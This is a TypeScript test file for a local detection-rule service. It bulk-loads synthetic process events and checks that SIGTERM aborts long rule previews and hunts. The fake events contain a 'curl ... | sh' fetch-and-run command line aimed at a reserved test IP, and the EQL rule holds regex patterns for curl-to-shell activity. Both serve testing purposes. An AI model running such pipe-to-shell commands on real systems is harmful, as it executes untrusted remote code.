import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { endpointOf } from '../../api/client/endpoint.ts';
import { Folder, MAIN } from './run-command.testing.ts';

const EVENTS = 200_000;
const HOUR_MS = 3_600_000;
const folder = new Folder();
const data = folder.at('data');
const config = folder.file('serve.toml', `[rules]\npaths = ["${folder.path}"]`);
afterAll(() => folder.remove());

/** Its regular expressions take some microseconds for each event. */
const RULE = {
  rule_id: 'slow',
  name: 'slow',
  description: 'slow',
  type: 'eql',
  language: 'eql',
  severity: 'low',
  risk_score: 1,
  index: ['logs-*'],
  from: 'now-6m',
  interval: '5m',
  query: `sequence by host.id with maxspan=5m
    [process where process.command_line regex~ ".*c(u|v)rl.*(a|b)+a.*"]
    [process where process.command_line regex~ ".*sh.*(a|aa)+b.*zz"]`,
};

class RunningService {
  readonly #child = spawn(
    process.execPath,
    [MAIN, 'serve', '--data', data, '--config', config, '--listen', '127.0.0.1:0'],
    { stdio: ['ignore', 'pipe', 'ignore'] },
  );
  #url = '';

  async ready(): Promise<this> {
    let line = '';
    this.#child.stdout.on('data', (chunk: Buffer) => (line += chunk.toString()));
    while (!line.includes('\n')) await sleep(20);
    this.#url = /http:\/\/\S+/.exec(line)?.[0] ?? '';
    return this;
  }

  async post(path: string, body: unknown): Promise<Response> {
    const headers = {
      authorization: `ApiKey ${(await endpointOf(data))?.key}`,
      'content-type': 'application/json',
      'kbn-xsrf': 'true',
    };
    const text = typeof body === 'string' ? body : JSON.stringify(body);
    return fetch(`${this.#url}${path}`, { method: 'POST', headers, body: text });
  }

  async stop(): Promise<void> {
    const exit = once(this.#child, 'exit');
    this.#child.kill('SIGTERM');
    expect(await exit).toEqual([0, null]);
  }
}

beforeAll(async () => {
  const service = await new RunningService().ready();
  const first = Date.now() - HOUR_MS;
  for (let start = 0; start < EVENTS; start += EVENTS / 2) {
    const lines = Array.from({ length: EVENTS / 2 }, (_, number) => {
      const at = new Date(first + ((start + number) * HOUR_MS) / EVENTS).toISOString();
      return `{"create":{}}\n{"@timestamp":"${at}","event":{"category":["process"]},"process":{"command_line":"curl -s https://192.0.2.1/${number} | sh -c ${'a'.repeat(60)}"},"host":{"id":"h${number % 7}"}}\n`;
    });
    const answer = await service.post('/logs-app-default/_bulk?filter_path=errors', lines.join(''));
    expect(await answer.json()).toEqual({ errors: false });
  }
  await service.stop();
});

describe('SIGTERM ends what runs for long at once', () => {
  it('previews, and who waits for them', async () => {
    const service = await new RunningService().ready();
    for (const rule_id of ['one', 'two'])
      await service.post('/dw/rules/_preview?from=now-2h&to=now', { ...RULE, rule_id });
    const waiting = service.post('/api/detection_engine/rules/preview', {
      ...RULE,
      invocationCount: 12,
      timeframeEnd: new Date().toISOString(),
    });
    await sleep(500);
    await service.stop();
    // One that is waited for ten seconds is cut off without an answer.
    expect(await (await waiting).json()).toMatchObject({ isAborted: true });
  });

  it('hunts, which say so', async () => {
    const service = await new RunningService().ready();
    const { query } = RULE;
    const hunt = await service.post('/dw/hunt', { query, from: 'now-2h', to: 'now' });
    const text = hunt.text();
    await service.stop();
    const last = (await text).trimEnd().split('\n').at(-1) ?? '';
    expect(JSON.parse(last)).toMatchObject({ type: 'end', outcome: 'cancelled' });
  });
});
